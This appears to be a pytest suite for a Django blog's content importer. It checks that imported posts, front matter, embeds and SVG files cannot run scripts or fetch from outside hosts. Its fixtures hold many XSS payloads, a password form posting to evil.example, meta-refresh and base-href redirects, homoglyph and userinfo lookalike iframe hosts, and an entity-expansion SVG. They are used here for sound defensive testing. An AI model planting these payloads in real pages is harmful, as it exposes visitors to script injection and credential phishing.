"""Markup that means harm, from the file to the reader: nothing of it runs, and the owner is told what was left out."""

from __future__ import annotations

import html
import json
import re
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from django.test import Client

from blog.models import BlogPage
from portfolio.markdown.embeds import EMBED_HOSTS
from tests.importer.hostile.trees import imported, outcome, told
from tests.importer.trees import picture, post

pytestmark = pytest.mark.django_db

SCHEMES = ("javascript:alert(1)", "JaVaScRiPt:alert(1)", "vbscript:x", "data:text/html,x", "&#106;avascript:alert(1)")
LISTED = {allowed.host for allowed in EMBED_HOSTS}
WHERE = ("/", "/blog/", "/feed/", "/rss.xml", "/feed.json", "/search/?q=harm", "/sitemap.xml", "/llms.txt", "/archive/")

LINKS = "\n\n".join(
    f"[a]({scheme}) ![b]({scheme}) <a href='{scheme}'>c</a> <img src='{scheme}' alt=d>\n\n[e]({scheme})\n\n"
    f"![f]({scheme})\n\n[![g](/i.png)]({scheme})\n\n* [h]({scheme})\n\n> [i]({scheme})\n\n## [j]({scheme})\n\n"
    f"| k |\n|---|\n| [l]({scheme}) |\n\n<video src='{scheme}' poster='{scheme}'></video>\n\n"
    f"> m\n>\n> <cite>[n]({scheme})</cite>"
    for scheme in SCHEMES
)
ATTRIBUTES = (
    'Words.\n{: onclick="alert(1)" style="position:fixed" href="javascript:alert(1)"}\n\n'
    '[x](/y){: onmouseover="alert(1)" href="javascript:alert(1)"}\n\n'
    '![i](/i.png){: onerror="alert(1)" srcset="javascript:alert(1) 2x"}\n\n'
    '```js\nx\n```\n{: data-x="<script>alert(1)</script>" onclick="alert(1)"}\n\n'
    '<p onclick="alert(1)" style="background:url(javascript:alert(1))">a</p>\n\n<svg onload="alert(1)"></svg>\n\n'
    '<details ontoggle="alert(1)" open>b</details>\n\n*[HTML]: <script>alert(1)</script>" onclick=alert(1)\n\nHTML\n'
)
ELEMENTS = (
    "<script>alert(1)</script>\n\n<style>body{display:none}</style>\n\n<base href='https://evil.example/'>\n\n"
    "<meta http-equiv=refresh content='0;url=https://evil.example'>\n\n"
    "<link rel=stylesheet href=//evil.example/x.css>\n\n<object data=x.swf></object>\n\n"
    "<form action='https://evil.example'><input name=password><button>x</button></form>\n\n"
    "{{ '<script>alert(1)</script>' }}\n\n```<script>alert(1)</script>\nx\n```\n\na[^<script>]\n\n"
    "[^<script>]: <img src=x onerror=alert(1)>\n\n"
    "$$\\href{javascript:alert(1)}{x} \\unicode{<script>alert(1)</script>}$$\n\n"
    "* toc\n{:toc}\n\n# <img src=x onerror=alert(1)>\n"
)
FRONT = {
    "image": "'javascript:alert(1)'",
    "author": "{name: '<script>alert(1)</script>', url: 'javascript:alert(1)'}",
    "redirect_to": "'javascript:alert(1)'",
    "canonical_url": "'javascript:alert(1)'",
    "description": "'harm \" onmouseover=alert(1) x=\"</script><script>alert(1)</script>'",
    "excerpt": "'<img src=x onerror=alert(1)><script>alert(1)</script>'",
    "tags": "['</script><script>alert(1)</script>']",
    "categories": "['\"><img src=x onerror=alert(1)>']",
    "series": "'<script>alert(1)</script>'",
    "title": "'</title></script><script>alert(1)</script>'",
}
FRAMES = (
    "https://www.youtube.com.evil.example/embed/abcdefgh",
    "https://www.youtube.com@evil.example/embed/abcdefgh",
    "https://user:pass@www.youtube.com/embed/abcdefgh",
    "https://www.youtube.com:8443/embed/abcdefgh",
    "https://www.youtube.com./embed/abcdefgh",
    "https://xn--yutube-wqf.com/embed/abcdefgh",
    "https://www.yоutube.com/embed/abcdefgh",
    "https:\\\\www.youtube.com\\embed\\abcdefgh",
    "//evil.example/embed/abcdefgh",
    "https://www.youtube.com%2eevil.example/embed/abcdefgh",
    "https://www.youtube.com/embed/..%2f..%2fredirect",
    "https://[::1",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
)


def assert_nothing_runs(markup: str, where: str) -> None:
    """Look at a page, and at the pages inside its frames, as another parser sees them."""
    for element in BeautifulSoup(markup, "lxml")(True):
        assert element.name not in ("base", "object", "embed", "applet"), where
        if element.name == "script":
            assert element.get("src", "").startswith("/static/") or element.get("type") == "application/ld+json", where
            if not element.get("src"):
                json.loads(element.string)
        if element.name in ("link", "meta"):
            assert element.get("http-equiv", "") != "refresh", where
            assert "stylesheet" not in element.get("rel", []) or element["href"].startswith(("/static/", "/theme")), (
                where
            )
        for name, value in element.attrs.items():
            assert not name.startswith("on"), (where, name)
            assert name != "style", (where, value)
            if name in ("href", "src", "action", "poster", "cite", "formaction", "srcset") and isinstance(value, str):
                bare = re.sub(r"[\x00-\x20]", "", value).lower()
                assert not bare.startswith(("javascript:", "vbscript:", "data:text")), (where, value)
            if name == "srcdoc":
                assert_nothing_runs(html.unescape(value), where)


@pytest.mark.parametrize("body", [LINKS, ATTRIBUTES, ELEMENTS], ids=["links", "attributes", "elements"])
def test_nothing_in_a_text_runs_anywhere(tmp_path: Path, client: Client, body: str) -> None:
    report = imported(tmp_path, {"bad": post(body, description="harm"), "../i.png": picture()})
    assert outcome(report, "bad") == "created"
    assert any(code == "unsafe-html" for _, code, _ in told(report, "bad"))
    page = BlogPage.objects.get(slug="bad")
    for block in page.body.get_prep_value():
        if block["type"] not in ("markdown", "html", "code", "math"):  # these are cleaned or escaped when shown
            assert not re.search(r"(?:href|src)=.?(?:javascript|vbscript|data):", json.dumps(block).lower()), block
    for address in (page.url, "/blog/bad.md", *WHERE):
        response = client.get(address)
        assert response.status_code == 200
        if response.headers["Content-Type"].startswith("text/html"):
            assert_nothing_runs(response.content.decode(), address)
            assert "unsafe-inline" not in response.headers["Content-Security-Policy"]
    for item in json.loads(client.get("/feed.json").content)["items"]:
        assert_nothing_runs(item["content_html"], "feed")


def test_nothing_in_front_matter_runs_anywhere(tmp_path: Path, client: Client) -> None:
    title = FRONT["title"]
    report = imported(tmp_path, {"bad": post("x\n", **FRONT)})
    assert {("error", "bad-address"), ("warning", "unusable-image")} <= {found[:2] for found in told(report, "bad")}
    page = BlogPage.objects.get(slug="bad")
    assert page.title == title.strip("'")
    addresses = [page.url, *WHERE, *(f"/tags/{tag.slug}/" for tag in page.tags.all())]
    addresses += [f"/categories/{category.slug}/" for category in page.categories.all()]
    for address in addresses:
        response = client.get(address)
        assert response.status_code == 200, address
        if response.headers["Content-Type"].startswith("text/html"):
            assert_nothing_runs(response.content.decode(), address)


def test_frames_that_look_like_listed_ones_are_not_loaded(tmp_path: Path, client: Client) -> None:
    body = "\n\n".join(f"<iframe src='{address}'></iframe>" for address in FRAMES)
    report = imported(tmp_path, {"bad": post(body)})
    codes = [code for _, code, _ in told(report, "bad")]
    assert codes.count("refused-embed") == len(FRAMES)
    soup = BeautifulSoup(client.get("/blog/bad/").content, "lxml")
    for frame in soup("iframe"):
        assert not frame.get("src")
        inside = BeautifulSoup(frame["srcdoc"], "lxml")
        assert not inside("iframe")
        for link in inside("a"):
            shown = link.get_text().partition(" at ")[2].strip()
            host = re.sub(r"^https:(//|\\\\)", "", link["href"]).partition("/")[0].rpartition("@")[2]
            assert shown in (host, ""), "the name that is shown is that of the host that is asked"
            assert host not in LISTED


DRAWING = (
    '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'onload="alert(1)"><script>alert(1)</script><foreignObject><iframe src="javascript:alert(1)"/></foreignObject>'
    '<a xlink:href="javascript:alert(1)"><text>t</text></a><image href="https://evil.example/x.png"/>'
    '<use href="data:image/svg+xml,x#a"/><style>@import url(//evil.example);</style><set attributeName="href" to="x"/>'
    '<rect style="fill:url(https://evil.example)" width="1"/></svg>'
)
BOMB = (
    '<!DOCTYPE svg [<!ENTITY a "x"><!ENTITY b "&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>'
)


def test_drawings_are_stored_without_what_runs_or_fetches(tmp_path: Path, client: Client) -> None:
    files = {"bad": post("![d](/d.svg)\n\n![b](/b.svg)\n"), "../d.svg": DRAWING, "../b.svg": BOMB}
    report = imported(tmp_path, files)
    assert [code for _, code, _ in told(report, "bad")] == ["drawing-simplified", "unusable-image"]
    drawing = client.get("/d.svg", follow=True)
    text = b"".join(drawing.streaming_content).decode()
    for word in ("script", "alert", "evil", "onload", "foreignObject", "@import", "data:"):
        assert word not in text
    assert "sandbox" in drawing.headers["Content-Security-Policy"]
    assert drawing.headers["X-Content-Type-Options"] == "nosniff"
